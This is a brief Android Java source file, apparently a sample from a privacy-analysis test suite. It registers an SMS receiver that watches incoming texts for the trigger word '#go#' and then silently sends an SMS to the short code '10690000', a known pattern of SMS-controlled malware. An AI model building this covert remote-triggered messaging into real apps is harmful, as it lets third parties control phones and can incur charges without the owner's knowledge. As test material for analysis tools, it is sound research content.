package cn.privlens.suite.sms_answered_with_word;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsManager;
import android.telephony.SmsMessage;

public class Incoming extends BroadcastReceiver {
    private static final String CODE = "#go#";

    @Override
    public void onReceive(Context context, Intent intent) {
        Object[] pdus = (Object[]) intent.getSerializableExtra("pdus");
        SmsMessage first = SmsMessage.createFromPdu((byte[]) pdus[0]);
        String body = first.getDisplayMessageBody();
        int at = body.indexOf(CODE);
        if (at >= 0) {
            String rest = body.substring(at + CODE.length());
            SmsManager.getDefault().sendTextMessage("10690000", null, "done", null, null);
        }
    }
}
